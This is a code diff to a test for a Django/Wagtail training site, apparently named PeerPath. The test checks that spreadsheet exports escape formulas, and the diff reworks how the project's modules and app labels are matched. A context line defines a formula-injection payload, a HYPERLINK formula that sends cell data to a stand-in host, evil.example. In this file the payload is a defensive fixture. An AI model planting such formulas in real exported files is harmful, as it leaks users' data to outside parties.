@@ -11,15 +11,17 @@ from wagtail.admin.views.mixins import SpreadsheetExportMixin
 from wagtail.admin.viewsets import viewsets
 
 from peerpath.spreadsheets import FormulaSafeExportMixin
+from peerpath.training import progress
 from tests.certificates.factories import CertificateFactory
 from tests.factories import UserFactory
-from training import progress
 
 from .factories import LogEntryFactory
 
 pytestmark = pytest.mark.django_db
 
-PEERPATH_APPS = ("peerpath", "accounts", "training", "certificates", "workshops", "home")
+# PeerPath's modules and app labels, and the demo site's.
+PEERPATH_MODULES = ("peerpath.", "home.")
+PEERPATH_LABELS = ("peerpath", "home")
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 AS_TEXT = "'" + FORMULA
 
@@ -99,7 +101,7 @@ def test_every_peerpath_export_escapes_its_cells(client, staff_user):
     views = [
         view
         for view in subclasses(SpreadsheetExportMixin)
-        if view.__module__.startswith(PEERPATH_APPS) and view.list_export
+        if view.__module__.startswith(PEERPATH_MODULES) and view.list_export
     ]
     views += [
         viewset.index_view_class
@@ -108,7 +110,7 @@ def test_every_peerpath_export_escapes_its_cells(client, staff_user):
         if isinstance(getattr(viewset, "list_export", None), list | tuple)
         and viewset.list_export
         and getattr(viewset, "model", None) is not None
-        and viewset.model._meta.app_label in PEERPATH_APPS
+        and viewset.model._meta.app_label.startswith(PEERPATH_LABELS)
     ]
     assert views
     assert [view for view in views if not issubclass(view, FormulaSafeExportMixin)] == []
